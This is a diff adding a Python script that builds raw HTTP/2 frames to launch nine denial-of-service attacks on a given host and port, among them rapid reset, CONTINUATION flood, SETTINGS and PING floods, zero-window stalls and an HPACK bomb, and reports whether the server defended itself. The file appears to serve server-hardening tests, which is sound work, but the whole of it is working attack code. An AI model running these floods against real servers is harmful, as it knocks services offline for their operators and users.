@@ -1,0 +1,279 @@
+#!/usr/bin/python3
+"""HTTP/2 attacks on a server, written with raw frames (hyperframe, hpack: the framing
+libraries of python3-h2). Each attack runs until the server ends the connection or a budget
+of frames or seconds is spent, then prints one JSON line:
+
+  {"attack": ..., "outcome": "goaway" | "closed" | "survived", "error_code": N or null,
+   "debug": "...", "frames_sent": N, "seconds": S, "responses": N, "resets_received": N}
+
+"goaway": the server sent GOAWAY (error_code is its code) and closed or is closing;
+"closed": the connection ended without a GOAWAY; "survived": the budget was spent and the
+connection is still open, i.e. the server did not defend itself.
+
+usage: attack.py HOST PORT ATTACK [--seconds S] [--frames N] [--path P]
+attacks: rapid-reset, made-you-reset, continuation-flood, settings-flood, ping-flood,
+         empty-data-flood, priority-flood, zero-window, hpack-bomb
+"""
+import argparse
+import json
+import socket
+import struct
+import sys
+import threading
+import time
+
+import hpack
+from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
+                              PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
+                              WindowUpdateFrame)
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+CANCEL = 0x8
+FRAME_HEADER = 9
+
+
+class Connection:
+    """A client connection that writes raw frames and (optionally) reads the server's."""
+
+    def __init__(self, host, port, settings=None, receive_buffer=None):
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        if receive_buffer:
+            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
+        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.sock.connect((host, port))
+        self.encoder = hpack.Encoder()
+        self.authority = "%s:%d" % (host, port)
+        self.goaway = None
+        self.closed = False
+        self.responses = 0
+        self.resets = 0
+        self.frames_sent = 0
+        self.lock = threading.Lock()
+        self.buffer = b""
+        initial = SettingsFrame(0)
+        for key, value in (settings or {}).items():
+            initial.settings[key] = value
+        self.sock.sendall(PREFACE + initial.serialize())
+
+    def send(self, *frames):
+        data = b"".join(f.serialize() for f in frames)
+        self.sock.sendall(data)
+        self.frames_sent += len(frames)
+
+    def send_raw(self, data, frames=1):
+        self.sock.sendall(data)
+        self.frames_sent += frames
+
+    def request_headers(self, stream_id, method="GET", path="/", end_stream=True, extra=()):
+        block = self.encoder.encode([(":method", method), (":scheme", "http"), (":path", path),
+                                     (":authority", self.authority)] + list(extra))
+        frame = HeadersFrame(stream_id, block)
+        frame.flags.add("END_HEADERS")
+        if end_stream:
+            frame.flags.add("END_STREAM")
+        return frame
+
+    def start_reader(self):
+        thread = threading.Thread(target=self._read_loop, daemon=True)
+        thread.start()
+        return thread
+
+    def _read_loop(self):
+        while not self.closed:
+            if not self.read_once(None):
+                return
+
+    def read_once(self, timeout):
+        """Reads and handles what arrives; False once the connection has ended."""
+        self.sock.settimeout(timeout)
+        try:
+            chunk = self.sock.recv(65536)
+        except socket.timeout:
+            return True
+        except OSError:
+            self.closed = True
+            return False
+        if not chunk:
+            self.closed = True
+            return False
+        self.buffer += chunk
+        while len(self.buffer) >= FRAME_HEADER:
+            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:FRAME_HEADER]))
+            if len(self.buffer) < FRAME_HEADER + length:
+                break
+            frame.parse_body(memoryview(self.buffer[FRAME_HEADER:FRAME_HEADER + length]))
+            self.buffer = self.buffer[FRAME_HEADER + length:]
+            self.handle(frame)
+        return True
+
+    def handle(self, frame):
+        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
+            ack = SettingsFrame(0)
+            ack.flags.add("ACK")
+            try:
+                with self.lock:
+                    self.sock.sendall(ack.serialize())
+            except OSError:
+                pass
+        elif isinstance(frame, GoAwayFrame):
+            self.goaway = (frame.error_code, frame.additional_data.decode("utf-8", "replace"))
+        elif isinstance(frame, RstStreamFrame):
+            self.resets += 1
+        elif isinstance(frame, (HeadersFrame, DataFrame)) and "END_STREAM" in frame.flags:
+            self.responses += 1
+
+    def drain(self, seconds):
+        """Reads for up to this long, or until the connection ends."""
+        deadline = time.monotonic() + seconds
+        while not self.closed and time.monotonic() < deadline:
+            if not self.read_once(0.05):
+                break
+
+    def ended(self):
+        return self.closed or self.goaway is not None
+
+
+def run(attack, conn, budget_frames, budget_seconds, path):
+    start = time.monotonic()
+
+    def spent():
+        return conn.frames_sent >= budget_frames or time.monotonic() - start > budget_seconds
+
+    try:
+        if attack == "rapid-reset":
+            conn.start_reader()
+            stream = 1
+            while not conn.ended() and not spent():
+                batch = []
+                for _ in range(50):
+                    batch.append(conn.request_headers(stream, path=path))
+                    batch.append(RstStreamFrame(stream, CANCEL))
+                    stream += 2
+                with conn.lock:
+                    conn.send(*batch)
+        elif attack == "made-you-reset":
+            # Each stream is opened, then made invalid so that the server itself must reset it:
+            # a WINDOW_UPDATE of 0 on an open stream is a stream error (RFC 9113 6.9).
+            conn.start_reader()
+            stream = 1
+            while not conn.ended() and not spent():
+                batch = []
+                for _ in range(50):
+                    batch.append(conn.request_headers(stream, method="POST", path=path, end_stream=False))
+                    batch.append(WindowUpdateFrame(stream, 0))
+                    stream += 2
+                with conn.lock:
+                    conn.send(*batch)
+        elif attack == "continuation-flood":
+            conn.start_reader()
+            first = conn.request_headers(1, path=path)
+            first.flags.discard("END_HEADERS")
+            with conn.lock:
+                conn.send(first)
+            index = 0
+            while not conn.ended() and not spent():
+                batch = []
+                for _ in range(100):
+                    block = hpack.Encoder().encode([("x-flood-%d" % index, "a" * 100)])
+                    batch.append(ContinuationFrame(1, block))
+                    index += 1
+                with conn.lock:
+                    conn.send(*batch)
+        elif attack in ("settings-flood", "ping-flood"):
+            # The client does not read: every frame asks for an answer that queues up.
+            while not spent():
+                if attack == "settings-flood":
+                    frames = [SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
+                              for _ in range(100)]
+                else:
+                    frames = [PingFrame(0, opaque_data=struct.pack(">Q", i)) for i in range(100)]
+                conn.send(*frames)
+            conn.drain(2)
+        elif attack == "empty-data-flood":
+            conn.start_reader()
+            with conn.lock:
+                conn.send(conn.request_headers(1, method="POST", path=path, end_stream=False))
+            while not conn.ended() and not spent():
+                with conn.lock:
+                    conn.send(*[DataFrame(1, b"") for _ in range(100)])
+        elif attack == "priority-flood":
+            conn.start_reader()
+            stream = 1
+            while not conn.ended() and not spent():
+                batch = []
+                for _ in range(100):
+                    batch.append(PriorityFrame(stream, depends_on=stream + 2 if stream > 1 else 0,
+                                               stream_weight=16))
+                    stream += 2
+                with conn.lock:
+                    conn.send(*batch)
+        elif attack == "zero-window":
+            # Windows of 0: the server can send no DATA and must not hold the stream forever.
+            conn.start_reader()
+            with conn.lock:
+                conn.send(conn.request_headers(1, path=path))
+            while not conn.ended() and not spent():
+                time.sleep(0.05)
+            conn.frames_sent = max(conn.frames_sent, 1)
+        elif attack == "hpack-bomb":
+            # One large header enters the dynamic table; then each request refers to it
+            # hundreds of times with one byte each.
+            conn.start_reader()
+            encoder = conn.encoder
+            big = ("x-bomb", "b" * 4000)
+            stream = 1
+            with conn.lock:
+                conn.send(HeadersFrame(stream, encoder.encode([(":method", "GET"), (":scheme", "http"),
+                                                               (":path", path), (":authority", conn.authority),
+                                                               big]), flags=["END_HEADERS", "END_STREAM"]))
+            while not conn.ended() and not spent():
+                stream += 2
+                block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
+                                        (":authority", conn.authority)] + [big] * 2000)
+                with conn.lock:
+                    conn.send(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
+        else:
+            print("unknown attack " + attack, file=sys.stderr)
+            sys.exit(2)
+    except OSError:
+        conn.closed = True
+    conn.drain(3)
+    if conn.goaway is not None:
+        outcome = "goaway"
+    elif conn.closed:
+        outcome = "closed"
+    else:
+        outcome = "survived"
+    return {
+        "attack": attack,
+        "outcome": outcome,
+        "error_code": conn.goaway[0] if conn.goaway else None,
+        "debug": conn.goaway[1] if conn.goaway else "",
+        "frames_sent": conn.frames_sent,
+        "seconds": round(time.monotonic() - start, 3),
+        "responses": conn.responses,
+        "resets_received": conn.resets,
+    }
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("host")
+    parser.add_argument("port", type=int)
+    parser.add_argument("attack")
+    parser.add_argument("--seconds", type=float, default=20)
+    parser.add_argument("--frames", type=int, default=1_000_000)
+    parser.add_argument("--path", default="/")
+    args = parser.parse_args()
+    settings = None
+    receive_buffer = None
+    if args.attack == "zero-window":
+        settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
+    if args.attack in ("settings-flood", "ping-flood"):
+        receive_buffer = 4096
+    conn = Connection(args.host, args.port, settings, receive_buffer)
+    print(json.dumps(run(args.attack, conn, args.frames, args.seconds, args.path)))
+
+
+if __name__ == "__main__":
+    main()
